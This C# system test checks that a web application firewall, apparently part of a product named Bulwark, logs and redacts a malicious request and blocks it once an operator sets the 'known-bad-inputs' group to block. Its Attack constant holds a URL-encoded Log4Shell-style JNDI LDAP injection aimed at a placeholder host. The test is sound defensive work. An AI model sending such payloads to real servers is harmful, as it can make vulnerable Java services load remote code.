using System.Net;
using Bulwark.SystemTests.Running;
using Bulwark.Testing;

namespace Bulwark.SystemTests;

public sealed class FirewallTests
{
    private const string Attack = "/_matrix/client/v3/publicRooms?server=%24%7Bjndi:ldap://192.0.2.1/plantedSecret%7D";

    [Fact]
    public async Task An_operator_sees_an_attack_in_the_log_and_turns_its_group_to_block()
    {
        await using var instance = await BulwarkInstance.StartAsync();
        using var client = instance.CreateEdgeClient();
        client.DefaultRequestHeaders.Add("User-Agent", "Element/1.11");

        Assert.NotEqual(HttpStatusCode.Forbidden, await AskAsync(client));
        var log = await LogAsync(Path.Combine(instance.Data, "log", "waf.jsonl"));
        Assert.Contains("\"known-bad-inputs\"", log, StringComparison.Ordinal);
        Assert.DoesNotContain("plantedSecret", log, StringComparison.OrdinalIgnoreCase);

        var set = await instance.VerbAsync("waf", "mode", "known-bad-inputs", "block");
        Assert.Equal(0, set.ExitCode);
        Assert.Contains("Firewall of the edge: group known-bad-inputs is 'block' now.", set.Output, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Forbidden, await AskAsync(client));
        Assert.Contains("known-bad-inputs", (await instance.VerbAsync("waf", "status", "--tier", "edge")).Output, StringComparison.Ordinal);
        Assert.NotEqual(0, (await instance.VerbAsync("waf", "mode", "nothing", "block")).ExitCode);
    }

    private static async Task<HttpStatusCode> AskAsync(HttpClient client)
    {
        using var answer = await client.GetAsync(Attack, TestContext.Current.CancellationToken);
        return answer.StatusCode;
    }

    private static async Task<string> LogAsync(string file)
    {
        var deadline = Deadline.Token();
        while (!File.Exists(file) || new FileInfo(file).Length == 0)
            await Task.Delay(TimeSpan.FromMilliseconds(20), deadline);

        return await File.ReadAllTextAsync(file, deadline);
    }
}
